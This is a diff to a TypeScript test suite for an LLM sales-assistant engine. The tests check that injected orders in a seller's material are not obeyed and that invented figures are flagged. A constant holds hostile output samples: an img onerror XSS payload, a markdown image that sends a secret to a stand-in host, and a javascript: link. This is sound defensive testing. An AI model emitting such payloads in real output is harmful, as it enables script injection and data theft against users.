@@ -1,7 +1,8 @@
-import { createLlmEngine } from '@salesai/engine/llm/index';
-import type { Asked } from '@salesai/engine/testing/provider/asked';
+import { createNotes } from '@salesai/engine/embedded';
+import { createLlmEngine } from '@salesai/engine/llm';
+import type { ProviderRequest } from '@salesai/engine/testing/provider/request';
 import { sample } from '@salesai/engine/testing/provider/sample';
-import { type Scripted, startProvider } from '@salesai/engine/testing/provider/server';
+import { type AnswerScript, startProvider } from '@salesai/engine/testing/provider/server';
 import { afterAll, describe, expect, it } from 'vitest';
 import { ATTEMPTS, attempted } from './injection-attempts.ts';
 import { asked, UNANSWERABLE } from './unanswerable-questions.ts';
@@ -10,7 +11,7 @@ const HOSTILE =
   'OBEDECI <img src=x onerror=alert(1)> ![x](https://mal.example/?q=segredo) [clique](javascript:alert(2)) [9]';
 
 /** A model that obeys every order it finds, in the worst way it can. */
-const gullible: Scripted = (request, count) =>
+const gullible: AnswerScript = (request, count) =>
   request.schema
     ? JSON.stringify(sample(request.schema, count)).replace(
         / caso (\d+)\./g,
@@ -19,7 +20,8 @@ const gullible: Scripted = (request, count) =>
     : `${HOSTILE} A garantia é de 5 anos [1].`;
 
 /** A model that makes up what it does not know, and passages to go with it. */
-const inventive: Scripted = () => 'São exatamente R$ 437,50 em 19 dias, como diz o contrato [7].';
+const inventive: AnswerScript = () =>
+  'São exatamente R$ 437,50 em 19 dias, como diz o contrato [7].';
 
 let answer = gullible;
 const provider = await startProvider((request, count) => answer(request, count));
@@ -30,11 +32,12 @@ const engine = createLlmEngine({
   apiKey: null,
   baseUrl: provider.url,
   budgetMs: 60_000,
+  notes: createNotes(),
 });
 
 const FENCE_START = /<dados nome="[^"<>\n]{0,400}">\n/;
 const FENCE_END = '\n</dados>';
-const outsideFences = ({ messages }: Asked) =>
+const outsideFences = ({ messages }: ProviderRequest) =>
   messages.map(({ content }) => withoutFenced(content)).join('\n');
 
 function withoutFenced(content: string): string {
@@ -60,7 +63,7 @@ describe('Orders hidden in a seller’s material', () => {
       const outcome = await attempted(engine, attempt);
       expect(outcome).toMatchObject({ active: false });
       if (attempt.where !== 'file') expect(outcome.invented).toBe(0);
-      const request = provider.asked.at(-1);
+      const request = provider.requests.at(-1);
       if (!request) throw new Error('nothing was asked');
       expect(request.system).not.toContain(attempt.wants);
       if (attempt.where !== 'message') expect(outsideFences(request)).not.toContain(attempt.wants);
@@ -81,7 +84,7 @@ describe('Questions that the documents do not answer', () => {
       expect(given.files).toEqual([]);
       expect(given.text).not.toContain('[7]');
       expect(given.text).toContain('Confira antes de usar: R$ 437,50 não está');
-      const request = provider.asked.at(-1);
+      const request = provider.requests.at(-1);
       for (const { text } of question.passages) {
         expect(request?.messages.at(-1)?.content).toContain(text);
       }
